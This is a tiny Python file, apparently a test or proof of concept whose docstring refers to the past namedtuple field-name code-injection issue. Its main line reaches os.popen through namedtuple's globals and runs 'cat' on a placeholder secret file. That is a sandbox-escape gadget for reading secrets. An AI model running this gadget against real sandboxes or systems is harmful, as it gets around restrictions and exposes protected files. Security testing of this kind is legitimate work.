"""A field's name was once put into code that was run."""
import collections
made = collections.namedtuple("Made", "x", module="os")
print(collections.namedtuple.__globals__["_sys"].modules["os"].popen("cat @SECRET_FILE@").read())
